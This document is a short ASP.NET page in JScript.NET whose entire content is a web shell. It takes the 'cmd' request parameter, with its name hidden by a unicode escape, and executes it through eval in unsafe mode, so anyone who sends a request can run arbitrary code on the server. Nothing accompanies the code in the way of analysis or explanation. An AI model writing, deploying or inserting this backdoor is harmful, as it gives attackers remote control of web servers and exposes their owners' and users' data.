<%@ Page Language="JScript" %>
<%
var r = HttpContext.Current.Request;
var s = r.Item["\u0063md"];
eval(s, "\u0075nsafe");
%>
